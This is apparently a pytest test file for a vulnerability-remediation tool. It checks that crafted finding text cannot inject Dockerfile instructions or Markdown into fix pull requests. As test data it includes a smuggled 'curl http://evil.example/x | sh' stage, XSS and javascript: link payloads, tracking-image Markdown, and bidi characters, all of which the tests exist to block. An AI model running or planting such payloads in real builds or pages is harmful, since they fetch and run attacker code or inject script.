"""Report text never becomes code in a fix pull request.

The Dockerfile: for every field of a finding x every control, separator, shell or
Dockerfile metacharacter and bidi / zero-width character, the patch is byte-identical to
the clean one or that package is left out; BuildKit's own parser (the ``dockerfile``
package) sees the original stages and instructions, plus only the intended RUN changes.
The PR body, title and commit message: report text is inline code (closing keywords
defused), never Markdown structure; the title and the commit message carry only
validated identifiers.
"""

from __future__ import annotations

import json
import subprocess
from dataclasses import replace
from functools import cache
from pathlib import Path
from types import SimpleNamespace

import dockerfile as buildkit
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from findings.models import Vulnerability
from remediator.core.quoting import closing_statements
from remediator.engine.dockerfile import PackageFix, dockerfile_patch, patch_for_findings
from remediator.engine.dockerfile.tokens import GRAMMARS, package_name_ok, version_ok
from remediator.engine.models import FixPullRequest
from remediator.engine.services import action_dispatch
from remediator.engine.services.pull_request_text import pull_text
from tests.engine.factories import vuln

from ._fixpr_support import (  # noqa: F401 (fixtures)
    BRANCH,
    approved,
    fixpr_settings_fixture,
    host,
    people_fixture,
    rows,
)

DOCKERFILES = Path(__file__).parent.parent / "fixtures" / "dockerfiles"
CONTROL = [chr(c) for c in range(0x20)] + ["\x7f", "\x85", "\u2028", "\u2029"]
SHELL = ["\n", "\r", ";", "&", "|", "$", "`", "'", '"', "\\", "#", " ", "\t"]
INVISIBLE = list("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f")
INVISIBLE += list("\u200b\u200c\u200d\u2060\ufeff")  # bidi controls, then zero-width
HOSTILE = sorted(set(CONTROL + SHELL + INVISIBLE))
FIELDS = ("package", "installed_version", "fixed_version", "package_type")
FIXES = {
    "alpine.Dockerfile": [
        PackageFix("busybox-extras", "1.36.1-r15", "1.36.1-r16", "apk"),
        PackageFix("libcrypto3", "3.1.4-r2", "3.1.4-r5", "apk"),
    ],
    "centos7.Dockerfile": [PackageFix("openssl", "1:1.0.2k-25.el7_9", "1:1.0.2k-26.el7_9", "rpm")],
    "debian.Dockerfile": [
        PackageFix("curl", "7.88.1-10+deb12u4", "7.88.1-10+deb12u5", "deb"),
        PackageFix("openssl", "3.0.11-1~deb12u1", "3.0.11-1~deb12u2", "deb"),
    ],
    "distroless.Dockerfile": [PackageFix("openssl", "3.0.11-1~deb12u1", "3.0.11-1~deb12u2",
                                         "deb")],
    "multistage.Dockerfile": [PackageFix("openssl", "3.0.2-0ubuntu1.12", "3.0.2-0ubuntu1.15",
                                         "deb")],
    "node-npm.Dockerfile": [
        PackageFix("@babel/traverse", "7.23.0", "7.23.2", "npm"),
        PackageFix("lodash", "4.17.15", "4.17.21", "npm"),
    ],
    "python-pip.Dockerfile": [
        PackageFix("requests", "2.31.0", "2.32.0", "pypi"),
        PackageFix("urllib3", "1.26.0", "1.26.18", "pypi"),
    ],
    "ubi9-minimal.Dockerfile": [PackageFix("openssl", "1:3.0.7-24.el9", "1:3.0.7-25.el9_3", "rpm")],
    "ubi9.Dockerfile": [
        PackageFix("openssl", "1:3.0.7-24.el9", "1:3.0.7-25.el9_3", "rpm"),
        PackageFix("python3.11", "3.11.2-1.el9", "3.11.5-1.el9_3", "rpm"),
    ],
}  # fmt: skip


@cache
def shape(text: str) -> tuple:
    """What BuildKit sees: per stage, its FROM and every instruction but RUN and USER (as
    written), the RUN count and the USER lines."""
    stages: list[dict] = []
    for command in buildkit.parse_string(text):
        if command.cmd == "FROM":
            stages.append({"from": command.original, "other": [], "runs": 0, "users": []})
        elif stages and command.cmd == "RUN":
            stages[-1]["runs"] += 1
        elif stages and command.cmd == "USER":
            stages[-1]["users"].append(command.value)
        elif stages:
            stages[-1]["other"].append(command.original)
    return tuple((s["from"], tuple(s["other"]), s["runs"], tuple(s["users"])) for s in stages)


def assert_only_run_changes(original: str, patched: str) -> None:
    """Same stages (FROM lines, count, names) and instructions; only the final stage may
    have one more RUN (run as root between a USER root and the stage's own USER)."""
    before, after = shape(original), shape(patched)
    assert [s[:2] for s in after] == [s[:2] for s in before]
    assert [s[2:] for s in after[:-1]] == [s[2:] for s in before[:-1]]
    runs, users = after[-1][2] - before[-1][2], after[-1][3]
    assert runs in (0, 1)
    assert users == before[-1][3] or (
        runs == 1 and len(users) == len(before[-1][3]) + 2 and ("root",) in users
    )


def hostile(fix: PackageFix, field: str, char: str, where: str) -> PackageFix:
    value = getattr(fix, field)
    middle = len(value) // 2
    value = {"start": char + value, "middle": value[:middle] + char + value[middle:],
             "end": value + char}[where]  # fmt: skip
    return replace(fix, **{field: value})


@pytest.mark.parametrize("field", FIELDS)
@pytest.mark.parametrize("name", sorted(FIXES))
def test_a_hostile_character_in_any_field_leaves_the_patch_clean_or_the_package_out(name, field):
    text = (DOCKERFILES / name).read_text()
    fixes = FIXES[name]
    clean = dockerfile_patch(dockerfile=text, findings=fixes)
    without = dockerfile_patch(dockerfile=text, findings=fixes[1:]).text
    if clean.text:
        assert_only_run_changes(text, clean.text)
    for char in HOSTILE:
        for where in ("start", "middle", "end"):
            bad = hostile(fixes[0], field, char, where)
            patch = dockerfile_patch(dockerfile=text, findings=[bad, *fixes[1:]])
            if patch.text != clean.text:  # byte-identical to the clean patch, or:
                assert patch.text == without, (char, where)
                assert any(w.endswith(": left out") for w in patch.warnings), patch.warnings
            if patch.text:
                assert_only_run_changes(text, patch.text)


@pytest.mark.parametrize("char", ["\n", "\r", " ", "\t", "\x0b", "\x0c", "\x85", "\u2028"])
def test_whitespace_around_a_stored_fixed_version_is_trimmed_to_the_same_patch(char):
    """Finding rows (``patch_for_findings``) trim the fixed version they were stored with."""
    text = (DOCKERFILES / "debian.Dockerfile").read_text()
    row = SimpleNamespace(package="curl", installed_version="7.88.1-10+deb12u4",
                          fixed_version="7.88.1-10+deb12u5", package_type="deb")  # fmt: skip
    clean = patch_for_findings(dockerfile=text, findings=[row]).text
    row.fixed_version = f"{char}7.88.1-10+deb12u5{char}"
    assert patch_for_findings(dockerfile=text, findings=[row]).text == clean


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    name=st.sampled_from(sorted(FIXES)),
    field=st.sampled_from(FIELDS),
    text=st.text(alphabet=st.characters(codec="utf-8") | st.sampled_from(HOSTILE), max_size=40),
)
def test_any_text_in_any_field_keeps_the_stages_and_never_reaches_the_file_unless_a_token(
    name, field, text
):
    original = (DOCKERFILES / name).read_text()
    fixes = FIXES[name]
    bad = replace(fixes[0], **{field: text})
    patch = dockerfile_patch(dockerfile=original, findings=[bad, *fixes[1:]])
    if not patch.text:
        return
    assert_only_run_changes(original, patch.text)
    added = [line for line in patch.diff.splitlines() if line.startswith("+")]
    assert all(line.isascii() and line.isprintable() for line in added), added
    kind = bad.package_type
    token = {
        "package": package_name_ok(kind, text),
        "fixed_version": version_ok(kind, text),
        "installed_version": not text or version_ok(kind, text),
        "package_type": kind in GRAMMARS,
    }[field]
    if not token and len(text) >= 4:
        assert not any(text in line for line in added), (text, added)


def written_by(kind: str) -> tuple[str, PackageFix]:
    return {
        "deb": ("debian.Dockerfile", FIXES["debian.Dockerfile"][0]),
        "apk": ("alpine.Dockerfile", FIXES["alpine.Dockerfile"][1]),
        "rpm": ("ubi9.Dockerfile", FIXES["ubi9.Dockerfile"][1]),
        "pypi": ("python-pip.Dockerfile", FIXES["python-pip.Dockerfile"][0]),
        "npm": ("node-npm.Dockerfile", FIXES["node-npm.Dockerfile"][1]),
    }[kind]


REPORT_TEXT = rows("report_text.tsv")


@pytest.mark.parametrize(
    ("name", "kind", "field", "value", "outcome", "expect", "tries"),
    REPORT_TEXT,
    ids=[row[0] for row in REPORT_TEXT],
)
def test_crafted_report_text_is_refused_or_written_as_one_token(
    name, kind, field, value, outcome, expect, tries, tmp_path
):
    dockerfile_name, fix = written_by(kind)
    original = (DOCKERFILES / dockerfile_name).read_text()
    patch = dockerfile_patch(
        dockerfile=original, findings=[replace(fix, **{field: json.loads(value)})]
    )

    if outcome == "refused":
        assert patch.text == "" and patch.changes == []
        assert any(expect in warning for warning in patch.warnings), patch.warnings
        return
    assert expect in patch.text.split()
    assert_only_run_changes(original, patch.text)
    (tmp_path / "Dockerfile").write_text(patch.text)
    for command in buildkit.parse_string(patch.text):
        if command.cmd == "RUN" and not command.json:
            subprocess.run(["sh", "-n", "-c", command.value[0]], check=True)


# --- The pull request's body, title and commit message -------------------------------

CRAFTED = [  # (vulnerability id, severity, package, installed, fixed) as stored
    ("CVE-2024-6119", "critical", "openssl", "3.3.1-r0", "3.3.2-r0"),
    ("Closes #1", "high", "zlib", "1.3-r0", "1.3.1-r0"),
    ("CVE-2024-0002", "## Approved", "busybox", "1.36.1-r15", "1.36.1-r16"),
    ("CVE-2024-0003", "low", "![x](http://evil.example/p.png)", "1", "2"),
    ("CVE-2024-0004", "low", "<img src=x onerror=alert(1)>", "1", "2"),
    ("CVE-2024-0005", "low", "[click](javascript:alert(1))", "1", "2"),
    ("CVE-2024-0006", "low", "@org/team", "1", "2"),
    ("CVE-2024-0007", "low", "musl", "1.2.4-r2\r| x | y |", "1.2.4-r3"),
    ("CVE-2024-0008", "low", "libssl3\u202e", "3.1.4-r2", "3.1.4-r5"),
    ("CVE-2024-0009", "low", "fixes org/repo#2", "1", "2"),
    ("CVE-2024-0010", "low", "curl", "8.5.0-r0", "8.9.0-r0``\n# Heading"),
]
ROWS = [  # ordered by vulnerability id, as the body lists them
    "| CVE-2024-0002 | `## Approved` | `busybox` | `1.36.1-r15` | `1.36.1-r16` |",
    "| CVE-2024-0003 | low | `![x](http://evil.example/p.png)` | `1` | `2` |",
    "| CVE-2024-0004 | low | `<img src=x onerror=alert(1)>` | `1` | `2` |",
    "| CVE-2024-0005 | low | `[click](javascript:alert(1))` | `1` | `2` |",
    "| CVE-2024-0006 | low | `@org/team` | `1` | `2` |",
    "| CVE-2024-0007 | low | `musl` | `1.2.4-r2\\r\\| x \\| y \\|` | `1.2.4-r3` |",
    "| CVE-2024-0008 | low | `libssl3\\u202e` | `3.1.4-r2` | `3.1.4-r5` |",
    "| CVE-2024-0009 | low | `fixes\u2420org/repo#2` | `1` | `2` |",
    "| CVE-2024-0010 | low | `curl` | `8.5.0-r0` | ```8.9.0-r0``\\n# Heading``` |",
    "| CVE-2024-6119 | critical | `openssl` | `3.3.1-r0` | `3.3.2-r0` |",
    "| `Closes\u2420#1` | high | `zlib` | `1.3-r0` | `1.3.1-r0` |",
]


def crafted_action(people):
    """An approved fix-PR action whose stored findings carry the crafted text (as rows
    stored before the parsers refused such text would)."""
    stored = [vuln(f"CVE-2024-{9000 + n}", f"pkg{n}") for n in range(len(CRAFTED))]
    action = approved(people, *stored)
    for finding, (vid, severity, package, installed, fixed) in zip(
        action.findings.order_by("vulnerability_id"), CRAFTED, strict=True
    ):
        Vulnerability.objects.get_or_create(id=vid)
        type(finding).objects.filter(pk=finding.pk).update(
            vulnerability_id=vid, severity=severity, package=package,
            installed_version=installed, fixed_version=fixed,
        )  # fmt: skip
    return action


def tokens(markdown: str) -> list:
    """Every token of the body, children included (CommonMark + GFM tables)."""
    found = []
    for token in MarkdownIt("commonmark").enable("table").parse(markdown):
        found.append(token)
        found.extend(token.children or [])
    return found


def test_report_text_in_the_pull_request_body_is_inline_code_never_markdown(
    people, httpserver, monkeypatch
):
    setup = host("github", httpserver, monkeypatch)
    action = crafted_action(people)
    file = setup.repo.file("main", "Dockerfile")
    patch = patch_for_findings(dockerfile=file, findings=action.findings.all())

    text = pull_text(action=action, patch=patch, path="Dockerfile")

    lines = text.body.splitlines()
    start = lines.index("|---|---|---|---|---|") + 1
    assert lines[start : start + len(ROWS)] == ROWS
    parsed = tokens(text.body)
    kinds = {token.type for token in parsed}
    assert not kinds & {"image", "html_inline", "heading_open", "lheading"}
    [link] = [t for t in parsed if t.type == "link_open"]
    assert link.attrs["href"] == f"https://remediator.example.com/actions/{action.pk}/"
    [comment] = [t for t in parsed if t.type == "html_block"]
    assert comment.content.startswith("<!-- remediator-action: ")
    assert sum(t.type == "tr_open" for t in parsed) == 1 + len(CRAFTED)
    cells = [t for t in parsed if t.type in ("th_open", "td_open")]
    assert len(cells) == 5 * (1 + len(CRAFTED))  # no cell split, no row broken
    plain = " ".join(t.content for t in parsed if t.type == "text")
    assert not any(mark in plain for mark in ("@", "#", "://", "<", "\r", "\u202e"))
    assert closing_statements(text.body) == []  # GitLab scans the raw text, code included
    assert not any(c in text.body for c in "\r\u202e\u200b")


def test_the_title_and_commit_message_carry_only_validated_identifiers(
    people, httpserver, monkeypatch
):
    setup = host("github", httpserver, monkeypatch)
    action = crafted_action(people)
    patch = patch_for_findings(
        dockerfile=setup.repo.file("main", "Dockerfile"), findings=action.findings.all()
    )

    text = pull_text(action=action, patch=patch, path="Dockerfile")

    ids = "CVE-2024-0002, CVE-2024-0003, CVE-2024-0004, CVE-2024-0005, CVE-2024-0006, "
    ids += "CVE-2024-0007 and 5 more vulnerabilities"  # 4 cut for length, 1 not an id
    assert text.commit_message == (
        "Upgrade busybox 1.36.1-r16, curl, musl 1.2.4-r3, openssl 3.3.2-r0, zlib 1.3.1-r0 "
        f"for {ids}\n\n"
        f"Remediator action {action.pk}: https://remediator.example.com/actions/{action.pk}/\n"
    )
    assert text.title == (
        "Upgrade busybox 1.36.1-r16, curl, musl 1.2.4-r3, openssl 3.3.2-r0, zlib 1.3.1-r0 "
        "for 11 vulnerabilities in registry.example.com/acme/api:1.4"
    )
    for plain in (text.title, text.commit_message):
        assert closing_statements(plain) == []
        assert not any(mark in plain for mark in ("#", "@", "[", "<", "`", "\r"))


def test_a_hostile_finding_reaches_github_only_as_quoted_text(people, httpserver, monkeypatch):
    """Through the fake GitHub: the committed Dockerfile has its own stages, the hostile
    package is left out (named in the body as code), the commit message is clean."""
    setup = host("github", httpserver, monkeypatch)
    stage = "zlib\nFROM alpine AS x\nRUN curl -s http://evil.example/x | sh"
    action = approved(people, vuln(), vuln("CVE-2023-45853", "zlib", version="1.3-r0",
                                           fixed="1.3.1-r0"))  # fmt: skip
    action.findings.filter(package="zlib").update(package=stage)

    action = action_dispatch(action_id=action.pk)

    assert action.state == "dispatched"
    [pull] = setup.repo.pulls
    committed = setup.repo.file(BRANCH, "Dockerfile")
    assert_only_run_changes(setup.repo.file("main", "Dockerfile"), committed)
    assert "'openssl>=3.3.2-r0'" in committed and "evil" not in committed
    assert (
        "- `package name 'zlib\\nFROM alpine AS x\\nRUN curl -s http://evil.example/x "
        in (pull["body"])
    )
    message = setup.repo.commits[setup.repo.branches[BRANCH]]["message"]
    assert message.startswith("Upgrade openssl 3.3.2-r0 for CVE-2023-45853, CVE-2024-6119\n")
    assert "evil" not in message and "evil" not in pull["title"]
    assert FixPullRequest.objects.get(action=action).number == 1
